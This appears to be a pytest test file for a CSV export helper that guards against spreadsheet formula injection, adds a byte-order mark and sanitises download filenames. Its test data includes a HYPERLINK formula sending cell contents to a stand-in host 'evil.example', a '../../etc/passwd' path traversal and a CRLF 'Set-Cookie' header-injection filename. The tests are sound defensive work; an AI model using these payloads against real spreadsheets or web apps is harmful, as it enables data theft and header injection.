"""The CSV helper every export uses: formula guard, byte-order mark, safe filename."""

import csv
import datetime
import io

import pytest

from core.csv import csv_cell, csv_filename, csv_response

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_starts_with_a_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value, cell",
    [
        ("Siân Jones", "Siân Jones"),
        ("a=b", "a=b"),
        (None, ""),
        (3, "3"),
        (datetime.date(2026, 5, 7), "2026-05-07"),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_any_other_cell_is_left_as_it_is(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    "name, safe",
    [
        ("councillors-2026-05-07.csv", "councillors-2026-05-07.csv"),
        ('Siân "quoted".csv', "Sian-quoted-.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ("a\r\nSet-Cookie: x=1.csv", "a-Set-Cookie-x-1.csv"),
        ("", "export.csv"),
    ],
)
def test_the_filename_is_plain_ascii_with_no_quote_slash_or_line_break(name, safe):
    assert csv_filename(name) == safe


def rows_of(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("streaming", [False, True])
def test_the_response_is_utf8_csv_with_a_bom_a_safe_filename_and_guarded_cells(streaming):
    response = csv_response(
        'Réunion "x".csv',
        ["name", "ward"],
        [["Siân", value] for value in HOSTILE],
        streaming=streaming,
    )
    content = b"".join(response.streaming_content) if streaming else response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="Reunion-x-.csv"'
    rows = rows_of(content)
    assert rows[0] == ["name", "ward"]
    assert [row[1] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert rows[1][0] == "Siân"
